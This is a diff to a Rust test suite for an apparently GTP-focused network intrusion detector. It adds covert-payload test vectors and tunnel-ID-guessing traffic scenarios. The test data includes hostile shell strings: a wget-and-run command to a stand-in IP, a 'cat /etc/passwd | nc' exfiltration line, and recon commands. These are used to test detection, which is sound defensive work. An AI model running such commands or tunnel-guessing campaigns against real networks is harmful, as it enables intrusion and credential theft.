@@ -759,6 +759,18 @@ fn vendor_records_in_echo_private_extensions() {
     loud.push(tlv(9, b"Q2hlY2sgaW4gc3RhdHVzOiBhbGwgc3lzdGVtcyBnbw=="));
     loud.push(b"cd /tmp; wget http://198.51.100.7/a; sh a".to_vec());
     loud.push([b"\x01\x1f".as_slice(), b"cat /etc/passwd | nc 10.9.8.7 53"].concat());
+    // base64 cut into runs too short to judge by binary octets between them, and commands
+    // one per line
+    let b64 = b"Q2hlY2sgaW4gc3RhdHVzOiBhbGwgc3lzdGVtcyBnbyBmb3IgbGF1bmNo";
+    let mut cut = Vec::new();
+    for (k, c) in b64.chunks(14).enumerate() {
+        if k > 0 {
+            cut.push(0x80 + k as u8);
+        }
+        cut.extend_from_slice(c);
+    }
+    loud.push(cut);
+    loud.push(b"uname -a\nid\nls -la /tmp\nwhoami".to_vec());
     for (i, value) in loud.iter().enumerate() {
         for p in echo(100 + i as u32, 2011, value) {
             let got = ids(&run(no_policy(), &[gtpc_frame(1.0, PGW, SGW, &p)]));
@@ -3050,10 +3062,22 @@ fn a_session_partner_guessing_tunnel_ids() {
     let mut frames = base.clone();
     let first = frames.len() as u64 + 1;
     frames.extend(campaign(&guess, 0));
-    // the pair's keepalives and user plane go on
+    // the pair's keepalives, sessions and user plane go on
     let mut quiet: BTreeSet<u64> = (1..first).collect();
     for k in 0..5u32 {
         frames.extend(echo(1400.0 + f64::from(k) * 60.0, 0x20 + k, 4));
+        frames.push(gtpc_frame(
+            1400.5 + f64::from(k) * 60.0,
+            partner,
+            PGW,
+            &gtp_v2(34, Some(0x77), 0x6000 + k, vec![]),
+        ));
+        frames.push(gtpc_frame(
+            1400.6 + f64::from(k) * 60.0,
+            PGW,
+            partner,
+            &gtp_v2(35, Some(0x99), 0x6000 + k, vec![v2_cause(16)]),
+        ));
         frames.push(gtpu_frame(
             1401.0 + f64::from(k) * 60.0,
             partner,
@@ -3123,8 +3147,80 @@ fn a_session_partner_guessing_tunnel_ids() {
     let mut restarted = base.clone();
     restarted.extend(echo(5.0, 0x11, 5));
     restarted.extend(campaign(&guess, 0));
-    for (name, f) in [("stale", &stale), ("after a restart", &restarted)] {
+    // the same 30 guesses within two and a half minutes (a node walking its table)
+    let burst: Vec<Frame> = base
+        .iter()
+        .cloned()
+        .chain((0..30u32).flat_map(|i| {
+            let ts = 10.0 + f64::from(i) * 5.0;
+            [
+                gtpc_frame(
+                    ts,
+                    partner,
+                    PGW,
+                    &gtp_v2(36, Some(guess(i)), 0x4100 + i, vec![]),
+                ),
+                gtpc_frame(
+                    ts + 0.05,
+                    PGW,
+                    partner,
+                    &gtp_v2(37, Some(0), 0x4100 + i, vec![v2_cause(64)]),
+                ),
+            ]
+        }))
+        .collect();
+    // the same guesses among twice as many of the partner's requests accepted (tunnels a
+    // peer lost met one by one among the sessions that go on)
+    let mut lazy = base.clone();
+    for (k, f) in campaign(&guess, 0).into_iter().enumerate() {
+        let ts = f.ts_nanos as f64 / 1e9;
+        lazy.push(f);
+        if k % 2 == 1 {
+            for j in 0..2u32 {
+                let seq = 0x7000 + k as u32 * 2 + j;
+                let t = ts + 1.0 + f64::from(j);
+                lazy.push(gtpc_frame(
+                    t,
+                    partner,
+                    PGW,
+                    &gtp_v2(34, Some(0x77), seq, vec![]),
+                ));
+                lazy.push(gtpc_frame(
+                    t + 0.05,
+                    PGW,
+                    partner,
+                    &gtp_v2(35, Some(0x99), seq, vec![v2_cause(16)]),
+                ));
+            }
+        }
+    }
+    for (name, f) in [
+        ("stale", &stale),
+        ("after a restart", &restarted),
+        ("burst", &burst),
+        ("among accepted requests", &lazy),
+    ] {
         let a = run(no_policy(), f);
         assert!(findings(&a, 3027).is_empty(), "{name}: {:?}", ids(&a));
     }
+    // GTPv1: Update PDP Context requests for guessed tunnels, answered Non-existent
+    let mut v1 = base.clone();
+    for i in 0..30u32 {
+        let ts = 10.0 + (0..=i).map(|k| 20.0 + f64::from(k * 37 % 41)).sum::<f64>();
+        let seq = Some(0x300 + i as u16);
+        v1.push(gtpc_frame(
+            ts,
+            partner,
+            PGW,
+            &gtp_v1(18, guess(i), seq, vec![]),
+        ));
+        v1.push(gtpc_frame(
+            ts + 0.05,
+            PGW,
+            partner,
+            &gtp_v1(19, 0, seq, vec![v1_ie(1, vec![192])]),
+        ));
+    }
+    let a = run(no_policy(), &v1);
+    assert!(!findings(&a, 3027).is_empty(), "v1: {:?}", ids(&a));
 }
